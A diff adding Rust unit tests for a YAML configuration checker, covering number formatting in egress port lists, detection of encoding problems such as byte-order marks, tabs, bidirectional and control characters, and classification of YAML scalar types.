+            (
+                "4.43e2",
+                "`4.43e2` is not written as a plain decimal number",
+            ),
+        ] {
+            assert_eq!(
+                one(&plus(&format!("egress:\n  ports: [{value}]\n"))),
+                d(14, 11, "egress.ports[0]", message),
+                "{value}"
+            );
+        }
+    }
+
+    // --- §4 "Encoding" ---
+
+    #[test]
+    fn encoding_problems_are_reported_with_line_and_column() {
+        let cases = [
+            (
+                format!("\u{FEFF}{}", base()),
+                d(1, 1, "", "the file starts with a byte-order mark (U+FEFF)"),
+            ),
+            (
+                base().replace('\n', "\r\n"),
+                d(
+                    1,
+                    13,
+                    "",
+                    "carriage return (CRLF line ending) (11 more in the file)",
+                ),
+            ),
+            (
+                with("  base: main", "\tbase: main"),
+                d(4, 1, "", "tab used for indentation"),
+            ),
+            (
+                with("  base: main", "  base: main\t# tab"),
+                d(4, 13, "", "tab character"),
+            ),
+            (
+                with("tenant: acme", "tenant: \"ac\u{202E}me\""),
+                d(
+                    1,
+                    12,
+                    "",
+                    "invisible or bidirectional formatting character U+202E (right-to-left override)",
+                ),
+            ),
+            (
+                with("tenant: acme", "tenant: ac\u{200B}me"),
+                d(
+                    1,
+                    11,
+                    "",
+                    "invisible or bidirectional formatting character U+200B (zero-width space)",
+                ),
+            ),
+            (
+                with("tenant: acme", "tenant: acme # \u{2066}x"),
+                d(
+                    1,
+                    16,
+                    "",
+                    "invisible or bidirectional formatting character U+2066 (left-to-right isolate)",
+                ),
+            ),
+            (
+                with("tenant: acme", "tenant: a\u{1b}cme"),
+                d(1, 10, "", "control character U+001B (escape)"),
+            ),
+            (
+                with("tenant: acme", "tenant: a\u{0085}cme"),
+                d(1, 10, "", "control character U+0085"),
+            ),
+            (
+                with("tenant: acme", "tenant: a\u{7f}cme"),
+                d(1, 10, "", "control character U+007F (delete)"),
+            ),
+        ];
+        for (text, want) in cases {
+            assert_eq!(one(&text), want, "{text:?}");
+        }
+    }
+
+    // --- the parser pieces ---
+
+    #[test]
+    fn plain_reading_classifies_yaml_11_and_12_scalars() {
+        for s in [
+            "acme",
+            "main",
+            "2G",
+            "30m",
+            "pypi.org",
+            "1.2.3.4",
+            "0177.0.0.1",
+            "feature/x",
+            "v1.2",
+            "1-2",
+            "*.x.org",
+            "-q",
+            "e3",
+            "_1",
+            "0x",
+            "12:60",
+            "2024-13",
+        ] {
+            assert_eq!(plain_reading(s), None, "{s}");
+        }
+        for (s, kind) in [
+            ("no", "boolean"),
+            ("NO", "boolean"),
+            ("On", "boolean"),
+            ("~", "null"),
+            ("12", "integer"),
+            ("-12", "integer"),
+            ("+12", "integer"),
+            ("0o17", "integer"),
+            ("0b101", "integer"),
+            ("1.5", "float"),
+            (".5", "float"),
+            ("5.", "float"),
+            ("1e3", "float"),
+            ("-1E-3", "float"),
+            ("-.inf", "float"),
+            (".NaN", "float"),
+            ("1:20:30", "integer"),
+            ("1:20.5", "float"),
+            ("2024-1-1", "date"),
+            ("2024-01-01T02:00:00Z", "date"),
+            ("2024-01-01 02:00:00", "date"),
+        ] {
+            assert_eq!(plain_reading(s).map(|r| r.0), Some(kind), "{s}");
+        }
     }
 }
